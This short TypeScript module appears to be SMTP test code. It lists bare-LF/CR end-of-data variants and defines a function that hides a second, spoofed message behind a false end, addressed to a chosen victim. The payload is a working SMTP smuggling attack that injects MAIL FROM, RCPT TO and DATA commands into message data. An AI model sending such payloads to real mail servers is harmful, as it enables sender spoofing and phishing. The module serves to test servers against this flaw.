import { letter, octets } from "./messages.js";

/** What some servers take for the end of a message, and others for a part of it. */
export const SMUGGLED_ENDS: Readonly<Record<string, string>> = {
  "LF . LF": "\n.\n",
  "LF . CRLF": "\n.\r\n",
  "CRLF . LF": "\r\n.\n",
  "CR . CR": "\r.\r",
  "CR . CRLF": "\r.\r\n",
  "CRLF . CR": "\r\n.\r",
  "LF . CR": "\n.\r",
  "CR . LF": "\r.\n",
};

/** A message with a second one hidden behind a false end, to `victim`; as it goes over the wire after DATA. */
export function smuggler(end: string, victim: string): Buffer {
  const hidden = letter({ from: "boss@home.example", mark: "smuggled" }).toString("latin1");
  const commands = `MAIL FROM:<boss@home.example>\r\nRCPT TO:<${victim}>\r\nDATA\r\n`;
  return octets(`${letter({ mark: "carrier", body: "Hello." }).toString("latin1")}${end}${commands}${hidden}.\r\n`);
}
